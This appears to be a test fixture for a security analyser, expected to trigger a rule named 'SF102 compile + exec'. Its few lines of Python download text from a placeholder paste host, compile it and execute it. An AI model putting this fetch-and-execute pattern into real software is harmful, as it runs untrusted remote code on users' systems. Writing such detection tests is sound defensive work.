# expect: blocked SF102 compile + exec
import urllib.request

source = urllib.request.urlopen("https://paste.example/raw/abc").read().decode()
code = compile(source, "<remote>", "exec")
exec(code, {})
